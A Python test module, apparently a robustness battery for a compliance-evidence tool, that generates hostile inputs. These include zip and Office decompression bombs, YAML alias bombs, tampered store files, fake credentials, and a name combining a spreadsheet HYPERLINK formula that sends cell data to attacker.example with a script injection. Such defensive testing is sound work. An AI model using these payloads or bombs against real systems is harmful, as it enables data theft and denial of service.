"""The hostile and broken inputs of ``bench/battery.py``: each writes files into a folder and says what to run.

Every input is built here from the published file formats (ECMA-376 for XLSX/DOCX packages, RFC 1951 deflate for
ZIP bombs, the AWS console's access-key CSV and ``aws sts`` JSON as the AWS documentation shows them), never copied
from trustgap's own test data. Credential-shaped values are assembled from parts so this file holds none.
"""

from __future__ import annotations

import io
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

GITHUB = "ghp_" + "Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8"
AWS_SECRET = "kX9pL2mN8qR4sT6vW1yZ3aB5cD7eF0gH" + "iJ2kL4mN"
SESSION = "IQoJb3JpZ2luX2VjE" + "NT//////////wEaCXVzLWVhc3QtMSJHMEUCIQDexampleexampleexampleexampleexample=="
PASSWORD = "Winter" + "2026!corr3ct-horse"
SECRETS = (GITHUB, AWS_SECRET, SESSION, PASSWORD)
HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?d="&A1,"open")<script>alert(1)</script>'
SCOPE = """version: 1
organisation:
  name: {name}
categories: [security]
systems:
  - {{name: AWS production, kind: aws, role: cloud}}
  - {{name: GitHub, kind: github, role: source_control}}
"""
ROSTER = ("Employee #,First Name,Last Name,Work Email,Department,Job Title,Employment Status,Hire Date,"
          "Termination Date,Status\n101,Ann,Lee,ann@acme.example,Engineering,Engineer,Full-Time,03/01/2021,,Active\n"
          "102,Bob,Roe,bob@acme.example,Sales,Rep,Full-Time,03/01/2022,,Active\n")
MIB = 1024 * 1024


@dataclass
class Case:
    """One battery input: a name, a writer of the organisation folder, and the commands to run on it.

    ``steps``: argument lists for ``trustgap`` (``{org}`` and ``{out}`` are filled in). ``expect``: exit codes
    allowed per step (default 0, 1, 2). ``between``: a hook run after a step index (tampering with the store)."""

    name: str
    write: Callable[[Path], None]
    steps: list[list[str]] = field(default_factory=lambda: [["assess", "{org}", "--as-of", "2026-03-01"]])
    expect: dict[int, set[int]] = field(default_factory=dict)
    between: dict[int, Callable[[Path], None]] = field(default_factory=dict)
    env: dict[str, str] = field(default_factory=dict)
    quick: bool = False
    parallel: int = 1  # run the first step this many times at once on one store


def _org(root: Path, scope: str | None = None, answers: str | None = None) -> Path:
    (root / "evidence").mkdir(parents=True, exist_ok=True)
    (root / "scope.yaml").write_text(scope or SCOPE.format(name="Acme"))
    if answers is not None:
        (root / "answers.yaml").write_text(answers)
    (root / "evidence" / "roster.csv").write_text(ROSTER)
    return root / "evidence"


def _files(files: dict[str, bytes] | Callable[[], dict[str, bytes]]) -> Callable[[Path], None]:
    """A writer of the organisation plus ``files`` in its evidence folder (built only when written)."""

    def write(root: Path) -> None:
        ev = _org(root)
        for name, data in (files() if callable(files) else files).items():
            (ev / name).parent.mkdir(parents=True, exist_ok=True)
            (ev / name).write_bytes(data)

    return write


def alias_bomb(levels: int = 9) -> str:
    names = "abcdefghijk"
    text = f"{names[0]}: &{names[0]} [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    for p, n in zip(names, names[1:levels], strict=False):
        text += f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n"
    return text


def office_bomb(main_part: str, mb: int = 300) -> bytes:
    """An Office package whose main part inflates ``mb`` MB of zeros (about 1000:1)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types '
                    'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        with zf.open(main_part, "w", force_zip64=True) as fh:
            block = b"\0" * MIB
            for _ in range(mb):
                fh.write(block)
    return buf.getvalue()


def zip_bomb(mb: int = 300) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("users.csv", "w", force_zip64=True) as fh:
        block = b" " * MIB
        for _ in range(mb):
            fh.write(block)
    return buf.getvalue()


def huge_dimension_xlsx() -> bytes:
    """A SpreadsheetML package (ECMA-376 Part 1) whose sheet claims A1:XFD1048576 around two real cells."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{pkg}"><Relationship Id="rId1" Type="{rel}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets><sheet name="Users" sheetId="1" '
        'r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{pkg}"><Relationship Id="rId1" '
        f'Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><dimension ref="A1:XFD1048576"/><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>email</t></is></c><c r="B1" t="inlineStr"><is><t>name</t>'
        '</is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        '</sheetData></worksheet>',
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in parts.items():
            zf.writestr(name, text)
    return buf.getvalue()


def big_xlsx(rows: int) -> bytes:
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Users")
    ws.append(["Work Email", "First Name", "Last Name", "Department", "Job Title", "Status"])
    for i in range(rows):
        ws.append([f"user{i}@acme.example", f"First{i}", f"Last{i}", "Engineering", "Engineer", "Active"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def docx_with(text_runs: list[str]) -> bytes:
    import docx

    d = docx.Document()
    d.add_heading("Runbook", 1)
    p = d.add_paragraph()
    for r in text_runs:
        p.add_run(r)
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def xlsx_with(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def pdf_with(lines: list[str]) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    w = PdfWriter()
    page = w.add_blank_page(612, 792)
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): w._add_object(font)})})
    stream = DecodedStreamObject()
    stream.set_data(("BT /F1 12 Tf 72 720 Td " + " 0 -16 Td ".join(f"({ln}) Tj" for ln in lines) + " ET").encode())
    page[NameObject("/Contents")] = w._add_object(stream.flate_encode())
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _big_csv(mb: int) -> Callable[[Path], None]:
    def write(root: Path) -> None:
        ev = _org(root)
        row = b"9999,Firstname,Lastname,someone@acme.example,Engineering,Engineer,Full-Time,03/01/2021,,Active\n"
        with (ev / "big.csv").open("wb") as fh:
            fh.write(ROSTER.split("\n", 1)[0].encode() + b"\n")
            block = row * (MIB // len(row))
            for _ in range(mb):
                fh.write(block)

    return write


def _special(root: Path) -> None:
    ev = _org(root)
    outside = root / "outside.csv"
    outside.write_text(ROSTER)
    (ev / "link.csv").symlink_to(outside)
    (ev / "linkdir").symlink_to(root, target_is_directory=True)
    if hasattr(os, "mkfifo"):
        os.mkfifo(ev / "pipe.csv")
    (ev / os.fsdecode(b"r\xe9sum\xe9-\xff.csv")).write_text(ROSTER)


def _tamper(how: str) -> Callable[[Path], None]:
    def alter(home: Path) -> None:
        blob = sorted(p for p in (home / "evidence").rglob("*") if p.is_file())[0]
        if how == "append":
            blob.write_bytes(blob.read_bytes() + b"x")
        elif how == "truncate":
            blob.write_bytes(b"")
        elif how == "delete":
            blob.unlink()
        elif how == "directory":
            blob.unlink()
            blob.mkdir()
        elif how == "symlink":
            target = home / "copy"
            target.write_bytes(blob.read_bytes())
            blob.unlink()
            blob.symlink_to(target)
        elif how == "fifo":
            blob.unlink()
            os.mkfifo(blob)

    return alter


def _scope_case(name: str, scope: str, answers: str | None = None, quick: bool = False) -> Case:
    def write(root: Path) -> None:
        _org(root, scope, answers)

    return Case(f"scope: {name}" if answers is None else f"answers: {name}", write, quick=quick)


def smoke_cases() -> list[Case]:
    """A few seconds' worth for the test suite: several hostile files in one evidence folder, one assess (with a
    report), and one impossible date in scope.yaml."""
    files = {
        "policy.md": b"# Access Control Policy\n\n" + b"\t" * 5120 + b"\n",
        "notes.txt": b"Access review policy\n" + b" " * 4096 + b"x\n",
        "records.yaml": alias_bomb().encode(),
        "users.xlsx": office_bomb("xl/sharedStrings.xml", mb=40),
        "prod.env": f"DB_PASSWORD={PASSWORD}\n".encode(),
        "runbook.docx": docx_with(["token ", GITHUB]),
        "empty.json": b"",
        "junk.csv": bytes(range(256)) * 64,
    }

    def write(root: Path) -> None:
        _files(files)(root)
        _special(root)

    t2 = SCOPE.format(name="Acme") + "report:\n  type: type2\n  period:\n    start: 2026-02-30\n    end: 2026-12-31\n"
    return [Case("hostile evidence folder", write, steps=[
        ["assess", "{org}", "--as-of", "2026-03-01", "--report", "{out}/r.md", "--format", "md"]], expect={0: {0}}),
        _scope_case("start 2026-02-30", t2)]


def cases(full: bool) -> list[Case]:
    """Every input of the battery (``full``: also the slow ones, 200 MB CSV and a 200,000-row workbook)."""
    base = SCOPE.format(name="Acme")
    out = [
        Case("4 KB line of spaces (.txt)", _files({"notes.txt": b"Access review policy\n" + b" " * 4096 + b"x\n"})),
        Case("100 KB line of spaces (.md)", _files({"policy.md": b"# Access Control Policy\n\n" + b" " * 100_000
                                                   + b"x\n"})),
        Case("5 KB line of tabs (.md)", _files({"policy.md": b"# Access Control Policy\n\n" + b"\t" * 5120 + b"\n"}),
             quick=True),
        Case("approved-by line of blanks and commas (.md)", _files(
            {"policy.md": b"# Access Control Policy\n\nApproved on: 2026-01-05" + b" \t," * 5000 + b"\n"})),
        Case("header of 100,000 brackets (.csv)", _files({"users.csv": b"[" * 100_000 + b",email\nx,a@b.example\n"})),
        Case("YAML alias bomb in evidence", _files({"records.yaml": alias_bomb().encode()}), quick=True),
        Case("YAML alias bomb in scope.yaml", lambda r: _org(r, base + alias_bomb())),
        Case("YAML alias bomb in answers.yaml", lambda r: _org(r, None, alias_bomb())),
        Case("XLSX zip bomb (300 MB part)", _files(lambda: {"users.xlsx": office_bomb("xl/sharedStrings.xml")}),
             quick=True),
        Case("DOCX zip bomb (300 MB part)", _files(lambda: {"policy.docx": office_bomb("word/document.xml")})),
        Case("ZIP archive bomb (300 MB member)", _files(lambda: {"export.zip": zip_bomb()})),
        Case("XLSX claiming A1:XFD1048576", _files(lambda: {"users.xlsx": huge_dimension_xlsx()})),
        Case("deep JSON nesting (200,000 levels)", _files({"users.json": b"[" * 200_000 + b"]" * 200_000})),
        Case("10 MB single-line JSON string",
             _files(lambda: {"users.json": b'{"users": "' + b"a" * (10 * MIB) + b'"}'})),
        Case("binary junk with text extensions", _files({f"junk{ext}": os.urandom(64 * 1024) for ext in
                                                         (".csv", ".json", ".md", ".yaml", ".txt", ".xlsx", ".pdf",
                                                          ".docx")})),
        Case("byte-order marks (UTF-8, UTF-16 LE/BE)", _files({
            "bom8.csv": b"\xef\xbb\xbf" + ROSTER.encode(), "bom16le.csv": ROSTER.encode("utf-16"),
            "bom16be.csv": b"\xfe\xff" + ROSTER.encode("utf-16-be"), "bom.json": b"\xef\xbb\xbf{}"})),
        Case("empty files", _files({f"empty{ext}": b"" for ext in (".csv", ".json", ".md", ".yaml", ".xlsx", ".docx",
                                                                   ".pdf", ".txt", ".zip")})),
        Case("links, FIFO, non-UTF-8 file name", _special, quick=True),
        Case("credentials in office files and credential exports", _files(lambda: {
            "runbook.docx": docx_with(["deploy with ", GITHUB[:9], GITHUB[9:]]),
            "keys.xlsx": xlsx_with([["system", "token"], ["ci", GITHUB]]),
            "breakglass.pdf": pdf_with(["Break glass", f"aws_secret_access_key = {AWS_SECRET}"]),
            "notes.txt": ("\ufeffslack: " + GITHUB + "\n").encode("utf-16"),
            "prod.env": f"DB_HOST=db\nDB_PASSWORD={PASSWORD}\n".encode(),
            "new_user_credentials.csv": ("Access key ID,Secret access key\n"
                                         f"AKIAIOSFODNN7EXAMPLE,{AWS_SECRET}\n").encode(),
            "sts.json": json.dumps({"Credentials": {"AccessKeyId": "ASIAEXAMPLE", "SecretAccessKey": AWS_SECRET,
                                                    "SessionToken": SESSION,
                                                    "Expiration": "2026-03-01T20:56:47+00:00"}}).encode(),
            "users.csv": f"email,name,initial password\nann@acme.example,Ann,{PASSWORD}\n".encode(),
        }), steps=[["assess", "{org}", "--as-of", "2026-03-01", "--report", "{out}/r.md", "--format", "md"],
                   ["verify", "latest"], ["package", "latest", "-o", "{out}/pkg.zip"],
                   ["roadmap", "--format", "xlsx", "-o", "{out}/r.xlsx"]], expect={1: {0}, 2: {0}}, quick=True),
        Case("formula and HTML in names", lambda r: _org(r, SCOPE.format(name=json.dumps(HOSTILE_NAME))),
             steps=[["assess", "{org}", "--as-of", "2026-03-01"], ["roadmap", "--format", "jira", "--all", "-o",
                                                                   "{out}/jira.csv"],
                    ["roadmap", "--format", "github", "--all", "-o", "{out}/gh.csv"],
                    ["roadmap", "--format", "xlsx", "-o", "{out}/r.xlsx"],
                    ["report", "latest", "--format", "md", "-o", "{out}/r.md"]], quick=True),
        Case("two assess at once on one store", _files({}), parallel=2),
    ]
    for how in ("append", "truncate", "delete", "directory", "symlink", "fifo"):
        out.append(Case(f"store object {how}", _files({}), steps=[
            ["assess", "{org}", "--as-of", "2026-03-01"], ["verify", "latest"], ["package", "latest", "-o",
                                                                                 "{out}/pkg.zip"]],
            expect={1: {1}, 2: {1}}, between={0: _tamper(how)}, quick=how == "fifo"))
    t2 = base + "report:\n  type: type2\n  period:\n    start: START\n    end: 2026-12-31\n"
    for name, text in (("start 2026-13-45", t2.replace("START", "2026-13-45")),
                       ("start 2026-02-30", t2.replace("START", "2026-02-30")),
                       ("year 0", t2.replace("START", "0000-01-01")),
                       ("categories: 42", base.replace("[security]", "42")),
                       ("thresholds: strict", base + "thresholds: strict\n"),
                       ("employees: 5000 digits", base.replace("  name: Acme\n", "  name: Acme\n  employees: "
                                                               + "9" * 5000 + "\n")),
                       ("scope is a list", "- a\n- b\n"), ("scope is binary", "\x00\x01\x02"),
                       ("tab indentation", "organisation:\n\tname: Acme\n")):
        out.append(_scope_case(name, text, quick=name == "start 2026-02-30"))
    for name, text in (("answered_at 2026-02-30", "AC-01:\n  status: implemented\n  answered_at: 2026-02-30\n"),
                       ("since 2026-13-45", "AC-01:\n  status: implemented\n  since: 2026-13-45\n"),
                       ("status list", "AC-01:\n  status: [implemented]\n"), ("answer int", "AC-01: 5\n")):
        out.append(_scope_case(name, base, text))
    if full:
        out += [Case("200 MB CSV", _big_csv(200)),
                Case("huge XLSX sheet (200,000 rows)", _files(lambda: {"people.xlsx": big_xlsx(200_000)}))]
    else:
        out.append(Case("CSV past a lowered size limit", _big_csv(3), env={"TRUSTGAP_MAX_FILE_MB": "2"}))
    return out
